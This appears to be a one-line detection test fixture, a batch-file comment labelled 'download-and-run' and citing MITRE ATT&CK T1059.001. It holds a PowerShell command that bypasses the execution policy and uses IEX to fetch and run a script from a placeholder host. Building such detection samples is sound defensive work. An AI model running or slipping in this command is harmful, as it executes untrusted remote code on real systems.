@rem expect: download-and-run | source: MITRE ATT&CK T1059.001
powershell -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/s.ps1')"
